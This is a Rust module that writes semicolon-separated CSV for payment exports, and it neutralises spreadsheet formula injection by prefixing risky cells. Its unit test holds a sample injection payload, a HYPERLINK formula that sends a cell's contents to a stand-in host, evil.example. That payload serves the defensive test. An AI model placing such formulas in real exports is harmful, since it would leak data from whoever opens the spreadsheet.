//! CSV for spreadsheets (the payments export, the statement of account): `;`-separated fields,
//! CRLF lines, amounts in euro with a dot.

/// One CSV field: quoted when it contains `;`, `"`, CR or LF (quotes doubled), as RFC 4180 with `;`.
/// A text a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, tab or CR —
/// a provider can name itself `=HYPERLINK(…)`) is prefixed with `'`, so it stays text. Plain
/// numbers (amounts, negative or not) are left as they are.
pub fn csv_field(value: &str) -> String {
    let number = !value.is_empty()
        && value.trim_start_matches('-').bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && value.trim_start_matches('-').bytes().any(|b| b.is_ascii_digit());
    let formula = !number && value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let value = if formula { format!("'{value}") } else { value.to_string() };
    if value.contains([';', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value
    }
}

/// One CSV line ending with CRLF.
pub fn csv_line<S: AsRef<str>>(fields: &[S]) -> String {
    let mut line = fields.iter().map(|f| csv_field(f.as_ref())).collect::<Vec<_>>().join(";");
    line.push_str("\r\n");
    line
}

/// `258.22`: cents as euro with a dot, for spreadsheets.
pub fn euro_plain(cents: i64) -> String {
    let sign = if cents < 0 { "-" } else { "" };
    let abs = cents.unsigned_abs();
    format!("{sign}{}.{:02}", abs / 100, abs % 100)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&C2;\"Dettagli\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&C2;\"\"Dettagli\"\")\""
        );
        for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(csv_field(risky).trim_start_matches('"').starts_with('\''), "{risky:?}");
        }
        assert_eq!(csv_field("-258.22"), "-258.22", "a negative amount stays a number");
        assert_eq!(csv_field("258.22"), "258.22");
        assert_eq!(csv_field("Società Veneta"), "Società Veneta");
    }

    #[test]
    fn csv_fields_with_separators_or_quotes_are_quoted() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a;b"), "\"a;b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_line(&["x", "y;z"]), "x;\"y;z\"\r\n");
        assert_eq!(euro_plain(25822), "258.22");
        assert_eq!(euro_plain(5), "0.05");
    }
}
